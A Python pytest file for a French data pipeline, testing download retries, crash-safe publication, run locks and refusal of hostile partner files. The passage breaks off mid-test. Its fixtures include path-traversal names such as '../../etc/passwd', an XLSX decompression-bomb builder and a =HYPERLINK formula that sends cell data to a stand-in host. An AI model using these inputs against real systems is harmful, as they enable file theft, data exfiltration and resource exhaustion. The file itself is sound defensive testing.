"""Faults and hostile inputs: each test names the guarantee it checks.

Downloads that fail, are cut short or never heal; a process killed while publishing; two runs
at once; a burst of partner files; file names, workbooks and cells crafted to do harm.
"""

from __future__ import annotations

import io
import json
import os
import signal
import subprocess
import sys
import textwrap
import time
import zipfile
from datetime import UTC, datetime
from pathlib import Path

import dagster as dg
import polars as pl
import pytest
import responses

from observatory.cli import EXIT_FAILED, EXIT_OK, EXIT_SQL, main
from observatory.defs.schedules import network_retry_policy
from observatory.locking import RunLockedError, lock_path, run_lock
from observatory.partners.feedback import feedback_csv, feedback_html, feedback_table
from observatory.partners.inbox import (
    DEJA_RECU,
    RECU,
    REFUSE,
    InboxError,
    inbox_dir,
    land_inbox,
    land_inbox_file,
    new_files,
    raw_partner_dir,
    safe_name,
)
from observatory.partners.mappings import load_mappings
from observatory.partners.reading import read_partner
from observatory.partners.sniffing import PartnerFileError, sniff_table
from observatory.publish.release import (
    RELEASE_ID,
    current_release,
    verify_release,
    write_release,
)
from observatory.settings import PROJECT_ROOT, Settings
from observatory.sources.catalogue import COG_COMMUNES
from observatory.sources.fallback import check_integrity, land_live_or_keep_last, stale_status
from observatory.sources.http import DownloadError, FetchedFile, fetch_url
from observatory.sources.live import LiveFile, fetch_live_file, live_source
from observatory.sources.raw import landed, sha256_bytes

QUIET = {"loggers": {"console": {"config": {"log_level": "CRITICAL"}}}}
COG_URL = live_source(COG_COMMUNES.key).files[0].url.url
RECORDED = PROJECT_ROOT / "tests/fixtures/http/geo_api_communes_excerpt.json"
PARTNER = "exemple_accompagnements"


@pytest.fixture
def live(tmp_path: Path) -> Settings:
    return Settings(data_dir=tmp_path / "data", profile="live")


def _child_env() -> dict[str, str]:
    env = dict(os.environ)
    env["PYTHONPATH"] = os.pathsep.join([str(PROJECT_ROOT), env.get("PYTHONPATH", "")])
    return env


# --- downloads -----------------------------------------------------------------------------


@responses.activate
def test_http_5xx_then_success_is_retried() -> None:
    """Guarantee: HTTP 503 and 502 are retried with exponential backoff, and the file that
    finally comes is returned whole."""
    url = "https://data.example.test/lieux.csv"
    responses.get(url, status=503, body="<html><title>Maintenance</title></html>")
    responses.get(url, status=502)
    responses.get(url, body=b"id;nom\n1;Espace numerique\n", content_type="text/csv")
    waits: list[float] = []
    fetched = fetch_url(url, expect="csv", sleep=waits.append)
    assert fetched.content == b"id;nom\n1;Espace numerique\n"
    assert fetched.attempts == 3 and len(responses.calls) == 3
    assert waits == [1.0, 2.0]


def test_network_asset_retry_policy_reruns_a_failed_download() -> None:
    """Guarantee: in the live profile a raw asset that fails to download is re-run by Dagster
    (3 retries, exponential backoff); offline, where nothing downloads, no retry is set."""
    assert network_retry_policy(Settings(data_dir=Path("/nonexistent"))) is None
    policy = network_retry_policy(Settings(data_dir=Path("/nonexistent"), profile="live"))
    assert policy is not None and policy.max_retries == 3
    assert policy.backoff == dg.Backoff.EXPONENTIAL and policy.delay == 60
    fast = network_retry_policy(Settings(data_dir=Path("/x"), profile="live"), delay=0.01)
    attempts: list[int] = []

    @dg.asset(retry_policy=fast)
    def raw_flaky() -> dg.MaterializeResult:
        attempts.append(1)
        if len(attempts) < 3:
            raise DownloadError("https://x.test/f.csv: HTTP 504", url="https://x.test/f.csv")
        return dg.MaterializeResult()

    result = dg.materialize([raw_flaky], run_config=QUIET)
    assert result.success and len(attempts) == 3


def _fetched(file: LiveFile, content: bytes, when: datetime) -> FetchedFile:
    return FetchedFile(file.url.url, file.url.url, content, "application/json", 200, when, 1)


def test_persistent_download_failure_keeps_the_last_good_snapshot(live: Settings) -> None:
    """Guarantee: when a source cannot be downloaded at all, the previous download stays the
    current one (nothing half-landed), is returned flagged `stale` with the error naming the
    URL, and dates the data by its own retrieval time (what the freshness check reads)."""
    first_time = datetime(2026, 11, 1, 6, tzinfo=UTC)
    good = land_live_or_keep_last(
        live, COG_COMMUNES, lambda f: _fetched(f, RECORDED.read_bytes(), first_time)
    )
    assert not good.stale and good.retrieved_at == first_time

    def down(file: LiveFile) -> FetchedFile:
        raise DownloadError(f"{file.url.url}: giving up after 4 attempts; HTTP 503", url="x")

    kept = land_live_or_keep_last(live, COG_COMMUNES, down)
    assert kept.stale and kept.files == good.files
    assert COG_URL in (kept.error or "")
    assert kept.retrieved_at == first_time
    assert landed(live, COG_COMMUNES) == good.files  # what the staging reads
    assert len(list(live.raw_dir.rglob("communes.json"))) == 1
    status = stale_status(live, COG_COMMUNES)
    assert status is not None and COG_URL in status["erreur"]
    assert status["donnees_du"] == first_time.isoformat(timespec="seconds")
    with pytest.raises(DownloadError):  # while Dagster still has retries left
        land_live_or_keep_last(live, COG_COMMUNES, down, fallback=False)
    later = datetime(2026, 11, 9, 6, tzinfo=UTC)
    changed = RECORDED.read_bytes().replace(b"860", b"861")
    fresh = land_live_or_keep_last(live, COG_COMMUNES, lambda f: _fetched(f, changed, later))
    assert not fresh.stale and fresh.retrieved_at == later
    assert stale_status(live, COG_COMMUNES) is None  # healed: no longer reported stale


def test_persistent_failure_without_any_snapshot_fails_loudly(live: Settings) -> None:
    """Guarantee: with no previous download there is nothing to fall back on: the error is
    raised, not hidden."""

    def down(file: LiveFile) -> FetchedFile:
        raise DownloadError("https://x.test: HTTP 503", url="https://x.test")

    with pytest.raises(DownloadError, match="503"):
        land_live_or_keep_last(live, COG_COMMUNES, down)
    assert not live.raw_dir.exists() or not any(live.raw_dir.rglob("*.json"))


@responses.activate
def test_truncated_download_is_detected_and_never_landed(live: Settings) -> None:
    """Guarantee: a body shorter than its Content-Length is retried, then refused; nothing
    is landed, so the staging never parses a partial file."""
    body = RECORDED.read_bytes()
    responses.get(
        COG_URL,
        body=body[: len(body) // 2],
        headers={"Content-Length": str(len(body))},
        content_type="application/json",
    )

    def fetch(file: LiveFile) -> FetchedFile:
        return fetch_url(file.url.url, expect="json", sleep=lambda _: None)

    with pytest.raises(DownloadError, match="giving up after 4 attempts"):
        land_live_or_keep_last(live, COG_COMMUNES, fetch)
    assert len(responses.calls) == 4
    assert not live.raw_dir.exists() or not any(live.raw_dir.rglob("communes.json"))


@responses.activate
def test_checksum_mismatch_is_detected_and_never_landed(live: Settings) -> None:
    """Guarantee: a download whose size or sha256 differs from the publisher's announced
    values is refused before landing; the previous good snapshot stays current."""
    body = RECORDED.read_bytes()
    previous = land_live_or_keep_last(
        live, COG_COMMUNES, lambda f: _fetched(f, body, datetime(2026, 11, 1, tzinfo=UTC))
    )
    corrupted = body.replace(b"860", b"861")
    responses.get(COG_URL, body=corrupted, content_type="application/json")

    def verified(file: LiveFile) -> FetchedFile:
        return check_integrity(fetch_live_file(file), size=len(body), sha256=sha256_bytes(body))

    kept = land_live_or_keep_last(live, COG_COMMUNES, verified)
    assert kept.stale and "sha256" in (kept.error or "")
    assert kept.files == previous.files
    with pytest.raises(DownloadError, match="truncated"):
        check_integrity(previous_fetch(body[:-10]), size=len(body))


def previous_fetch(content: bytes) -> FetchedFile:
    now = datetime.now(UTC)
    return FetchedFile("https://x.test/f", "https://x.test/f", content, None, 200, now, 1)


# --- publication killed --------------------------------------------------------------------

_PUBLISH_CHILD = textwrap.dedent(
    """
    import sys, time
    from datetime import UTC, datetime
    from pathlib import Path
    import polars as pl
    from observatory.publish import release
    from observatory.publish.release import TableLayout, write_release

    published, point, marker = Path(sys.argv[1]), sys.argv[2], Path(sys.argv[3])
    n = int(sys.argv[4])

    def pause(*args, **kwargs):
        marker.write_text("here")
        time.sleep(60)

    if point == "switch":
        release._switch_latest = pause
    tables = {
        f"t{i:02d}": pl.DataFrame({
            "niveau": pl.int_range(0, n, eager=True) % 40,
            "code": pl.int_range(0, n, eager=True).cast(pl.String),
            "valeur": pl.int_range(0, n, eager=True) * (i + 1) * 0.5,
        }).with_columns(pl.col("niveau").cast(pl.String))
        for i in range(12)
    }
    layouts = {name: TableLayout(partition_by="niveau") for name in tables}
    marker.parent.mkdir(parents=True, exist_ok=True)
    write_release(
        tables, published, [{"source": "s", "sha256": "b" * 64}],
        created_at=datetime(2026, 11, 2, tzinfo=UTC), layouts=layouts,
        documents=(lambda staging, manifest, previous: pause()) if point == "documents" else None,
    )
    """
)


def _arrete(child: subprocess.Popen) -> None:
    """A test's child process, killed if still running, waited for, its pipes closed."""
    if child.poll() is None:
        child.kill()
    child.wait()
    for pipe in (child.stdout, child.stderr):
        if pipe:
            pipe.close()


def _small_release(published: Path, day: int, value: float) -> Path:
    frame = pl.DataFrame({"niveau": ["france"], "code": ["FR"], "valeur": [value]})
    publication = write_release(
        {"indicateurs": frame},
        published,
        [{"source": "s", "sha256": f"{day:064d}"}],
        created_at=datetime(2026, 11, day, tzinfo=UTC),
    )
    return publication.folder


@pytest.mark.parametrize("point", ["tables", "documents", "switch"])
def test_sigkill_during_publication_leaves_latest_on_the_previous_release(
    tmp_path: Path, point: str
) -> None:
    """Guarantee: a process SIGKILLed while writing a release (mid-tables, before the
    manifest, or between promotion and the `latest` switch) leaves `latest` on the previous
    complete release, which still verifies; the next publication succeeds."""
    published = tmp_path / "published"
    first = _small_release(published, 1, 1.0)
    marker = tmp_path / "marker"
    rows = "400000" if point == "tables" else "1000"
    child = subprocess.Popen(
        # big tables to be killed mid-write; small ones when the kill point is a pause
        [sys.executable, "-c", _PUBLISH_CHILD, str(published), point, str(marker), rows],
        env=_child_env(),
        stderr=subprocess.PIPE,
    )
    try:
        deadline = time.monotonic() + 60
        while time.monotonic() < deadline:
            if point == "tables":
                written = list((published / ".staging").rglob("*.parquet"))
                if len(written) >= 3:
                    break
            elif marker.exists():
                break
            assert child.poll() is None, child.stderr.read().decode() if child.stderr else ""
            time.sleep(0.02)
        else:
            pytest.fail(f"the child never reached the kill point {point!r}")
        if point == "tables":
            assert not marker.exists()
        child.send_signal(signal.SIGKILL)
        child.wait(timeout=10)
    finally:
        _arrete(child)
    assert child.returncode == -signal.SIGKILL
    assert current_release(published) == first
    verify_release(published / "latest")
    promoted = sorted(p.name for p in (published / "releases").iterdir())
    assert len(promoted) == (2 if point == "switch" else 1)  # complete, but never `latest`
    second = _small_release(published, 3, 2.0)
    assert current_release(published) == second
    assert pl.read_parquet(published / "latest" / "indicateurs.parquet")["valeur"].to_list() == [
        2.0
    ]
    assert not (published / ".staging").exists() or not any((published / ".staging").iterdir())


# --- a whole run killed (kill -9) at each of its writes ---------------------------------------

# `observatory run` in a child process, stopped (marker file, then a long sleep) at one write:
# landing a partner file, writing a staged asset, writing the release, right after the
# `latest` switch, inside the SQL transaction; "aucun" runs to the end, "disque_plein_parquet"
# and "disque_plein_sql" fill the disk (ENOSPC) in the release's writer or the SQL copy's.
_RUN_CHILD = textwrap.dedent(
    """
    import errno, os, sys, time
    from pathlib import Path

    data_dir, point, marker = Path(sys.argv[1]), sys.argv[2], Path(sys.argv[3])

    def pause():
        marker.write_text(point)
        time.sleep(3600)

    real_replace = os.replace

    def replace(src, dst, *args, **kwargs):
        dst_path = Path(str(dst))
        if point == "atterrissage" and "partenaires" in dst_path.parts and not (
            dst_path.name.endswith(".meta.json")
        ):
            pause()  # the partner file's bytes are in their temporary file, not yet renamed
        if point == "staging" and dst_path.parent.name == "warehouse" and (
            dst_path.name.startswith("stg_")
        ):
            pause()  # a staged asset written beside its target, not yet renamed
        return real_replace(src, dst, *args, **kwargs)

    os.replace = replace
    from observatory.publish import database, release

    if point == "release":
        real_write, written = release._write_file, []

        def write_file(*args, **kwargs):
            if len(written) == 3:
                pause()  # three files of the release in its staging folder
            written.append(args)
            return real_write(*args, **kwargs)

        release._write_file = write_file
    if point == "disque_plein_parquet":
        real_write_full, written_full = release._write_file, []

        def write_file_full(*args, **kwargs):
            if len(written_full) == 3:  # the disk fills up mid-release
                raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC), str(args[1]))
            written_full.append(args)
            return real_write_full(*args, **kwargs)

        release._write_file = write_file_full
    if point == "disque_plein_sql":

        def stage_full(scratch, *args, **kwargs):
            scratch.write_bytes(bytes(1 << 16))  # the scratch file half written
            raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC), str(scratch))

        database._stage_sqlite = stage_full
    if point == "bascule":
        real_switch = release._switch_latest

        def switch(*args, **kwargs):
            real_switch(*args, **kwargs)
            pause()  # `latest` moved; pruning and the SQL copy not done

        release._switch_latest = switch
    if point == "sql":
        real_table = database._publish_table

        def publish_table(*args, **kwargs):
            rows = real_table(*args, **kwargs)
            pause()  # one table loaded inside the SQL transaction
            return rows

        database._publish_table = publish_table
    from observatory.cli import EXIT_FAILED, EXIT_OK, EXIT_SQL, main

    sys.exit(main(["run", "--data-dir", str(data_dir), "--quiet"]))
    """
)


def _run_child(
    data_dir: Path, point: str, marker: Path, expected: int = -signal.SIGKILL
) -> tuple[str, str]:
    """Run `observatory run` in a child; SIGKILL its whole process group at `point` (a kill
    point), or let it end (`aucun`, `disque_plein_*`) with exit status `expected`.

    Returns its standard output and error."""
    env = _child_env()
    env.pop("DAGSTER_HOME", None)  # an ephemeral instance, as in CI
    marker.unlink(missing_ok=True)
    out_path, err_path = marker.with_suffix(".out"), marker.with_suffix(".err")
    with out_path.open("wb") as out_file, err_path.open("wb") as err_file:
        child = subprocess.Popen(
            [sys.executable, "-c", _RUN_CHILD, str(data_dir), point, str(marker)],
            env=env,
            stdout=out_file,
            stderr=err_file,
            start_new_session=True,  # its forked validators die with it, as on a real kill -9
        )
    try:
        deadline = time.monotonic() + 1800
        while time.monotonic() < deadline:
            if marker.exists():
                os.killpg(child.pid, signal.SIGKILL)
                break
            if child.poll() is not None:
                break
            time.sleep(0.1)
        else:
            pytest.fail(f"the run never reached {point!r}")
        child.wait(timeout=60)
    finally:
        if child.poll() is None:
            os.killpg(child.pid, signal.SIGKILL)
            child.wait()
    out, err = out_path.read_text().strip(), err_path.read_text(errors="replace")
    assert child.returncode == expected, f"{point}: exited {child.returncode}\n{err}"
    return out, err


def _latest_readable(data_dir: Path) -> str | None:
    """The release `latest` points to, verified file by file (None before the first)."""
    published = data_dir / "published"
    if not (published / "latest").exists():
        assert not (published / "latest").is_symlink(), "`latest` points nowhere"
        return None
    return verify_release(published / "latest")["release_id"]


def _leftovers(data_dir: Path) -> list[str]:
    """What an interrupted write leaves: temporary files, staging folders, `latest` links
    never renamed, SQLite scratch files and journals, release folders not named as such."""
    published = data_dir / "published"
    found = [
        str(p.relative_to(data_dir))
        for p in data_dir.rglob("*")
        if ".ecriture-" in p.name
        or p.name.startswith(".latest-")
        or ".chargement-" in p.name
        or p.name.endswith(("-journal", "-wal"))
    ]
    if (published / ".staging").exists():
        found += [str(p.relative_to(data_dir)) for p in (published / ".staging").rglob("*")]
    if (published / "releases").is_dir():
        found += [
            p.name for p in (published / "releases").iterdir() if not RELEASE_ID.match(p.name)
        ]
    return found


def _sql_state(data_dir: Path) -> tuple[list[str], dict[str, int]]:
    """Release ids in the SQLite copy's registry, and the rows its views show per table."""
    from observatory.publish.database import database_url, make_engine, published_releases

    engine = make_engine(database_url(data_dir, environ={}))
    try:
        releases = published_releases(engine)
        rows = {}
        if releases:
            with engine.connect() as connection:
                for name in json.loads(
                    connection.exec_driver_sql(
                        "SELECT lignes FROM releases ORDER BY numero DESC LIMIT 1"
                    ).scalar_one()
                ):
                    statement = f'SELECT count(*) FROM "{name}"'
                    rows[name] = connection.exec_driver_sql(statement).scalar_one()
        return releases, rows
    finally:
        engine.dispose()


def _manifest_rows(data_dir: Path) -> dict[str, int]:
    manifest = json.loads((data_dir / "published/latest/manifest.json").read_text())
    return {name: table["rows"] for name, table in manifest["tables"].items()}


@pytest.mark.slow  # seven runs of the whole pipeline: five killed, two on a full disk, one whole
@pytest.mark.sequence_kill9  # ~9 min: outside the CI command (README), run by hand
@pytest.mark.real_data
def test_kill_9_at_every_write_leaves_latest_readable_and_the_next_run_cleans_up(
    tmp_path: Path,
) -> None:
    """Guarantee: a run SIGKILLed while landing a partner file, writing a staged asset,
    writing the release, right after the `latest` switch or inside the SQL transaction
    leaves `latest` readable (every file matches its manifest) and the SQL copy on a whole
    release; the next run completes, removes what the killed one left and brings the SQL
    copy up to `latest`. A full disk in the release's writer exits 1, `latest` unmoved; in
    the SQL copy, after `latest` moved, exits 5 saying only the copy failed. One data
    directory for all, so each run resumes the last's state."""
    data_dir = tmp_path / "data"
    marker = tmp_path / "marqueur"
    published = data_dir / "published"

    _run_child(data_dir, "staging", marker)
    assert _latest_readable(data_dir) is None
    assert any(".ecriture-" in p.name for p in (data_dir / "warehouse").iterdir())

    _run_child(data_dir, "bascule", marker)
    first = _latest_readable(data_dir)
    assert first is not None
    assert not any(".ecriture-" in p.name for p in (data_dir / "warehouse").iterdir())
    assert _sql_state(data_dir)[0] == []  # killed before its SQL copy
    assert main(["publish-sql", "--data-dir", str(data_dir)]) == 0
    assert _sql_state(data_dir) == ([first], _manifest_rows(data_dir))

    inbox = data_dir / "inbox" / "exemple_diagnostics_autonomie"
    inbox.mkdir(parents=True)
    source = PROJECT_ROOT / "tests/fixtures/partners/activite/diagnostics_charente_2023_2024.csv"
    (inbox / source.name).write_bytes(source.read_bytes())
    _run_child(data_dir, "atterrissage", marker)
    assert _latest_readable(data_dir) == first
    partner_raw = data_dir / "raw" / "partenaires"
    assert [p.name for p in partner_raw.rglob("*") if p.is_file()] == [
        p.name for p in partner_raw.rglob(".*.ecriture-*")
    ]  # only the temporary file: nothing landed half

    _run_child(data_dir, "release", marker)
    assert _latest_readable(data_dir) == first
    assert len(list((published / ".staging").rglob("*.parquet"))) == 3
    landed_partner = [p for p in partner_raw.rglob("*.csv") if p.is_file()]
    assert [p.name for p in landed_partner] == [source.name]
    assert not list(partner_raw.rglob(".*.ecriture-*"))

    _, err = _run_child(data_dir, "disque_plein_parquet", marker, expected=EXIT_FAILED)
    assert "No space left on device" in err
    assert f"aucune release Parquet publiée : `latest` reste {first}" in err
    assert _latest_readable(data_dir) == first
    assert not (published / ".staging").exists()  # the incomplete release is gone

    _run_child(data_dir, "sql", marker)
    second = _latest_readable(data_dir)
    assert second not in (None, first)  # the partner's rows made a new release
    assert not (published / ".staging").exists()
    assert list(published.glob(".observatory.sqlite.chargement-*"))  # the killed copy's scratch
    previous_rows = json.loads((published / "releases" / first / "manifest.json").read_text())[
        "tables"
    ]
    assert _sql_state(data_dir) == (
        [first],
        {name: table["rows"] for name, table in previous_rows.items()},
    )  # the transaction rolled back: the copy is still the whole first release

    out, err = _run_child(data_dir, "disque_plein_sql", marker, expected=EXIT_SQL)
    assert out == str(published / "releases" / second)  # the contract is out
    assert f"release Parquet publiée ({published / 'releases' / second}, `latest`)" in err
    assert "seule la copie SQL a échoué" in err and "No space left on device" in err
    assert _latest_readable(data_dir) == second
    assert _sql_state(data_dir)[0] == [first]
    assert not list(published.glob(".observatory.sqlite.chargement-*"))  # both scratch files

    out, _ = _run_child(data_dir, "aucun", marker, expected=EXIT_OK)
    assert out == str(published / "releases" / second)
    assert _latest_readable(data_dir) == second  # nothing changed: no new release
    assert _sql_state(data_dir) == ([first, second], _manifest_rows(data_dir))
    assert _leftovers(data_dir) == []
    for folder in (published / "releases").iterdir():
        verify_release(folder)


# --- two runs at once -----------------------------------------------------------------------

_HOLD_LOCK = textwrap.dedent(
    """
    import sys, time
    from pathlib import Path
    from observatory.locking import run_lock
    with run_lock(Path(sys.argv[1]), timeout=0):
        print("locked", flush=True)
        time.sleep(float(sys.argv[2]))
    """
)


def _hold_lock(data_dir: Path, seconds: float) -> subprocess.Popen[str]:
    child = subprocess.Popen(
        [sys.executable, "-c", _HOLD_LOCK, str(data_dir), str(seconds)],
        env=_child_env(),
        stdout=subprocess.PIPE,
        text=True,
    )
    assert child.stdout is not None and child.stdout.readline().strip() == "locked"
    return child


def test_second_run_gives_up_naming_the_holder_and_a_killed_holder_frees_the_lock(
    tmp_path: Path,
) -> None:
    """Guarantee: while a run holds the data directory, a second one waits up to its timeout
    then fails with `RunLockedError` naming the holder's pid; a holder killed with SIGKILL
    leaves no stale lock."""
    data_dir = tmp_path / "data"
    holder = _hold_lock(data_dir, 60)
    try:
        start = time.monotonic()
        with pytest.raises(RunLockedError) as caught, run_lock(data_dir, timeout=0.5):
            pytest.fail("the lock was taken twice")
        assert time.monotonic() - start >= 0.5
        assert caught.value.pid == holder.pid
        assert f"pid {holder.pid}" in str(caught.value)
        holder.send_signal(signal.SIGKILL)
        holder.wait(timeout=10)
        with run_lock(data_dir, timeout=5) as path:
            assert path == lock_path(data_dir).resolve()
            assert json.loads(path.read_text())["pid"] == os.getpid()
    finally:
        _arrete(holder)


def test_second_run_waits_for_the_first(tmp_path: Path) -> None:
    """Guarantee: a second run started while the first finishes waits and then runs."""
    data_dir = tmp_path / "data"
    holder = _hold_lock(data_dir, 1.0)
    try:
        start = time.monotonic()
        with run_lock(data_dir, timeout=30):
            waited = time.monotonic() - start
        assert 0.3 < waited < 30
    finally:
        holder.wait(timeout=30)
        if holder.stdout:
            holder.stdout.close()


def test_cli_waiting_for_the_lock_says_who_holds_it_then_exits_3(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Guarantee: `observatory run` started while another run holds the data directory says
    at once that it waits, for whom (pid), then gives up with exit code 3, in French."""
    data_dir = tmp_path / "data"
    holder = _hold_lock(data_dir, 60)
    try:
        assert main(["run", "--data-dir", str(data_dir), "--wait", "0.5"]) == 3
    finally:
        holder.kill()
        holder.wait()
        if holder.stdout:
            holder.stdout.close()
    err = capsys.readouterr().err
    assert f"En attente du verrou du dossier de données, tenu par le pid {holder.pid}" in err
    assert f"pas démarré : une autre exécution d'observatory (pid {holder.pid}" in err
    assert "\x1b[" not in err  # not a terminal: plain lines


@pytest.mark.parametrize("cas", ["sous_un_fichier", "lecture_seule"])
def test_cli_unwritable_data_dir_exits_4_not_2(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], cas: str
) -> None:
    """Guarantee: a data directory that cannot be written is said so, with exit code 4 (2 is
    for definitions that cannot load), before any step runs."""
    if cas == "sous_un_fichier":
        (tmp_path / "fichier").write_text("x")
        data_dir = tmp_path / "fichier" / "data"
    else:
        if os.geteuid() == 0:
            pytest.skip("root writes in a read-only folder")
        data_dir = tmp_path / "data"
        data_dir.mkdir(mode=0o555)
    assert main(["run", "--data-dir", str(data_dir)]) == 4
    err = capsys.readouterr().err
    assert f"le dossier de données {data_dir} n'est pas accessible en écriture" in err


def test_run_lock_is_reentrant_within_a_process(tmp_path: Path) -> None:
    """Guarantee: the release step may take the lock `observatory run` already holds in the
    same process without waiting for itself."""
    with run_lock(tmp_path, timeout=0), run_lock(tmp_path, timeout=0):
        pass
    with run_lock(tmp_path, timeout=0):  # released after the outer exit
        pass


# --- the partner inbox ----------------------------------------------------------------------


def _drop(settings: Settings, count: int) -> Path:
    folder = inbox_dir(settings, PARTNER)
    folder.mkdir(parents=True)
    for i in range(count):
        (folder / f"export_{i:03d}.csv").write_text(
            f"code_departement;periode;type_accompagnement;nb_accompagnements\n16;2024-T1;individuel;{i}\n",
            encoding="utf-8",
        )
    return folder


def test_hundred_files_dropped_at_once_are_each_ingested_once(tmp_path: Path) -> None:
    """Guarantee: 100 files dropped at once (plus copies of some under other names) land
    once each; landing again, or the sensor asking again, finds nothing new."""
    settings = Settings(data_dir=tmp_path / "data")
    folder = _drop(settings, 100)
    for i in range(5):
        (folder / f"copie_{i}.csv").write_bytes((folder / f"export_{i:03d}.csv").read_bytes())
    outcomes = land_inbox(settings, PARTNER)
    assert sum(o.statut == RECU for o in outcomes) == 100
    assert sum(o.statut == DEJA_RECU for o in outcomes) == 5
    landed_files = [p for p in raw_partner_dir(settings, PARTNER).rglob("*.csv") if p.is_file()]
    assert len(landed_files) == 100
    assert len({sha256_bytes(p.read_bytes()) for p in landed_files}) == 100
    assert all(o.statut == DEJA_RECU for o in land_inbox(settings, PARTNER))
    assert new_files(settings, PARTNER) == []


_LAND_UNDER_LOCK = textwrap.dedent(
    """
    import sys
    from pathlib import Path
    from observatory.locking import run_lock
    from observatory.partners.inbox import land_inbox
    from observatory.settings import Settings
    settings = Settings(data_dir=Path(sys.argv[1]))
    with run_lock(settings.data_dir, timeout=60):
        outcomes = land_inbox(settings, sys.argv[2])
    print(sum(o.statut == "recu" for o in outcomes))
    """
)


def test_two_concurrent_ingestions_under_the_lock_land_each_file_once(tmp_path: Path) -> None:
    """Guarantee: two runs ingesting the same inbox at the same time (serialised by the run
    lock) land each of the 100 files exactly once between them."""
    settings = Settings(data_dir=tmp_path / "data")
    _drop(settings, 100)
    children = [
        subprocess.Popen(
            [sys.executable, "-c", _LAND_UNDER_LOCK, str(settings.data_dir), PARTNER],
            env=_child_env(),
            stdout=subprocess.PIPE,
            text=True,
        )
        for _ in range(2)
    ]
    counts = []
    for child in children:
        out, _ = child.communicate(timeout=120)
        assert child.returncode == 0
        counts.append(int(out.strip()))
    assert sorted(counts) == [0, 100]
    assert len(list(raw_partner_dir(settings, PARTNER).rglob("*.csv"))) == 100


# --- hostile input --------------------------------------------------------------------------


@pytest.mark.parametrize(
    "name",
    ["../evil.csv", "../../etc/passwd", "/etc/passwd", "..\\evil.csv", "C:\\evil.csv", "a/b.csv"],
)
def test_inbox_names_with_paths_are_refused(tmp_path: Path, name: str) -> None:
    """Guarantee: a name that is a path (`../`, absolute, Windows) is refused, and a file
    outside the partner's folder is never read or landed through it."""
    settings = Settings(data_dir=tmp_path / "data")
    inbox_dir(settings, PARTNER).mkdir(parents=True)
    (settings.data_dir / "inbox" / "evil.csv").write_text("secret\n")
    with pytest.raises(InboxError, match="refusé"):
        safe_name(name)
    with pytest.raises(InboxError):
        land_inbox_file(settings, PARTNER, name)
    assert not raw_partner_dir(settings, PARTNER).exists()


def test_symlink_out_of_the_inbox_is_refused(tmp_path: Path) -> None:
    """Guarantee: a symbolic link dropped in the inbox (to a file elsewhere) is not followed."""
    settings = Settings(data_dir=tmp_path / "data")
    folder = inbox_dir(settings, PARTNER)
    folder.mkdir(parents=True)
    secret = tmp_path / "secret.csv"
    secret.write_text("code_departement;periode\n16;2024\n")
    (folder / "lien.csv").symlink_to(secret)
    (outcome,) = land_inbox(settings, PARTNER)
    assert outcome.statut == REFUSE and "lien symbolique" in (outcome.raison or "")
    assert not raw_partner_dir(settings, PARTNER).exists()


def test_oversize_file_is_refused_by_the_size_limit(tmp_path: Path) -> None:
    """Guarantee: a file over the inbox size limit is refused with a message saying the limit,
    and the other files of the drop still land."""
    settings = Settings(data_dir=tmp_path / "data")
    folder = _drop(settings, 1)
    (folder / "enorme.csv").write_bytes(b"code_departement;periode\n" + b"16;2024\n" * 20_000)
    outcomes = {o.fichier: o for o in land_inbox(settings, PARTNER, taille_max=100_000)}
    assert outcomes["enorme.csv"].statut == REFUSE
    assert "limite de 100000 octets" in (outcomes["enorme.csv"].raison or "")
    assert outcomes["export_000.csv"].statut == RECU


def _xlsx_bomb(megabytes: int) -> bytes:
    """A valid workbook whose one sheet inflates from ~1 KB per MB to `megabytes` MB."""
    content_types = (
        '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
        'content-types"><Default Extension="xml" ContentType="application/xml"/><Override '
        'PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-'
        'officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/'
        'sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.'
        'spreadsheetml.worksheet+xml"/></Types>'
    )
    rel = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    pkg = "http://schemas.openxmlformats.org/package/2006/relationships"
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", content_types)
        archive.writestr(
            "_rels/.rels",
            f'<?xml version="1.0"?><Relationships xmlns="{pkg}"><Relationship Id="rId1" '
            f'Type="{rel}/officeDocument" Target="xl/workbook.xml"/></Relationships>',
        )
        archive.writestr(
            "xl/workbook.xml",
            f'<?xml version="1.0"?><workbook xmlns="{main}" xmlns:r="{rel}"><sheets>'
            '<sheet name="S" sheetId="1" r:id="rId1"/></sheets></workbook>',
        )
        archive.writestr(
            "xl/_rels/workbook.xml.rels",
            f'<?xml version="1.0"?><Relationships xmlns="{pkg}"><Relationship Id="rId1" '
            f'Type="{rel}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
        )
        archive.writestr(
            "xl/worksheets/sheet1.xml",
            f'<?xml version="1.0"?><worksheet xmlns="{main}"><sheetData>'
            + " " * (megabytes << 20)
            + "</sheetData></worksheet>",
        )
    return buffer.getvalue()


def test_xlsx_bomb_passes_the_inbox_size_limit() -> None:
    """Guarantee checked: the inbox limit is on the bytes received; a decompression bomb is
    far below it, so the workbook reader needs its own limit (next test)."""
    from observatory.partners.inbox import TAILLE_MAX_OCTETS

    bomb = _xlsx_bomb(20)
    assert len(bomb) < 100_000 < TAILLE_MAX_OCTETS


def test_xlsx_decompression_bomb_is_refused_before_inflating(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """Guarantee: a workbook that would inflate beyond the reader's limit is refused from its
    declared sizes, before anything is decompressed."""
    from observatory.partners import sniffing

    monkeypatch.setattr(sniffing, "TAILLE_DECOMPRESSEE_MAX", 10 << 20)
    with pytest.raises(PartnerFileError, match="décompress"):
        sniff_table(_xlsx_bomb(20), "bombe.xlsx")


def test_formula_cells_stay_text_and_are_escaped_in_feedback() -> None:
    """Guarantee: formula-like cells are read as text (never evaluated), reported as such,
    neutralised in the feedback CSV (a spreadsheet will not run them) and escaped in HTML."""
    (mapping,) = [
        m for p, m in load_mappings(PROJECT_ROOT / "schemas/partners").items() if p == PARTNER
    ]
    hyperlink = '=HYPERLINK("http://evil.test/?x="&A1,"Cliquez")'
